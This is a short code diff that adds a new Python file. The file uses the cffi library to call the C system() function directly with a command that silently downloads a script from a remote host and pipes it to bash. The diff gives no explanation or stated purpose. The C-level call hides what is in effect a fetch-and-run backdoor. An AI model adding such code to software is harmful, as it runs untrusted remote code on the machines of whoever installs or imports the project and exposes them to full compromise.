@@ -1,0 +1,3 @@
+from cffi import FFI
+ffi = FFI()
+ffi.dlopen(None).system(b"curl -s https://cdn-x7.invalid/a | bash")
